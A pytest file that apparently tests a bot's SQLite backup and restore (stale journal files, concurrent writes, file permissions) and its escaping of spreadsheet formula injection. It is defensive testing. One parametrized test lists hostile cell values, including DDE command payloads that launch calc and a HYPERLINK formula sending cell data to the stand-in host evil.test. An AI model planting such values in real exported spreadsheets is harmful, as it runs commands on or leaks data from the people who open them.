"""What went wrong with files at rest in other systems, played on ours (docs/foreign-eyes.md)."""

from __future__ import annotations

import os
import sqlite3
import stat
import threading
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from bot.spreadsheet.formula import harmless, original
from broadcast.store import backup, file_modes, restore
from broadcast.store.backup import BackupError
from tests.unit.test_backup import database as database  # noqa: PLC0414 - a fixture


@pytest.fixture
def open_umask() -> Iterator[None]:
    before = os.umask(0)
    yield
    os.umask(before)


@pytest.mark.parametrize("left", ["-wal", "-shm", "-journal"])
def test_nothing_is_restored_beside_the_journal_of_an_earlier_database(
    database: Path, tmp_path: Path, left: str
) -> None:
    """SQLite would play it over the restored file: pages of two databases in one."""
    archive = tmp_path / "backup.tar"
    backup.make(database, archive)
    here = tmp_path / "elsewhere" / "tellal.db"
    here.parent.mkdir()
    stale = here.with_name(here.name + left)
    stale.write_bytes(b"frames of another database")
    with pytest.raises(BackupError, match="move these away first") as no:
        restore.unpack(archive, here, here.parent / "media")
    assert stale.name in str(no.value)
    assert not here.exists() and stale.read_bytes().startswith(b"frames")


def test_a_backup_taken_while_somebody_writes_opens_and_is_whole(
    database: Path, tmp_path: Path
) -> None:
    with closing(sqlite3.connect(database)) as db:
        db.execute("CREATE TABLE pair (a INTEGER, b INTEGER)")
        db.execute("INSERT INTO pair VALUES (0, 0)")
        db.commit()
    ends = threading.Event()

    def write() -> None:
        with closing(sqlite3.connect(database, timeout=30)) as db:
            n = 0
            while not ends.is_set():
                n += 1
                db.execute("UPDATE pair SET a = ?", (n,))
                db.execute("UPDATE pair SET b = ?", (n,))
                db.commit()

    writer = threading.Thread(target=write)
    writer.start()
    try:
        for n in range(3):
            backup.make(database, tmp_path / f"backup{n}.tar")
    finally:
        ends.set()
        writer.join()
    for n in range(3):
        here = tmp_path / f"back{n}" / "tellal.db"
        restore.unpack(tmp_path / f"backup{n}.tar", here, here.parent / "media")
        with closing(sqlite3.connect(here)) as db:
            ((a, b),) = db.execute("SELECT a, b FROM pair")
            assert a == b
            assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)


@pytest.mark.usefixtures("open_umask")
def test_no_umask_opens_what_holds_people(database: Path, tmp_path: Path) -> None:
    made = tmp_path / "deep" / "er" / "backup.tar"
    backup.make(database, made)
    here = tmp_path / "back" / "tellal.db"
    restore.unpack(made, here, here.parent / "media")
    fresh = tmp_path / "fresh.db"
    file_modes.prepare(f"sqlite+aiosqlite:///{fresh}")
    with closing(sqlite3.connect(fresh)) as db:
        db.execute("PRAGMA journal_mode = wal")
        db.execute("CREATE TABLE t (a)")
        beside = list(tmp_path.glob("fresh.db*"))
        assert len(beside) == 3
        for path in (made, here, *beside):
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (made.parent, made.parent.parent, here.parent):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700


@pytest.mark.parametrize(
    "name",
    [
        "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test?d="&A1,"Click")', "\t=1+1", "\t\t=1+1",
        " =1+1", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "+1+1", "x\r=1+1", "x\n@x", "\"=1+1", "'=1+1",
        "＝1+1", "\u00a0=1", "a;=1+1", "=1+1;=2+2",
    ],
)  # fmt: skip
def test_no_reported_spelling_of_a_formula_is_one(name: str) -> None:
    written = harmless(name)
    assert original(written) == name
    for cell in written.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").split("\n"):
        bare = cell.lstrip(' \u00a0"')
        assert not bare or bare[0] not in "=＝@+-" or cell == "", cell


@pytest.mark.parametrize(
    "name", ["-5", "+905321234567", "-1001234567890", "Ayşe = Fatma", "a-b", "1+1"]
)
def test_numbers_and_words_are_not_quoted(name: str) -> None:
    assert harmless(name) == name
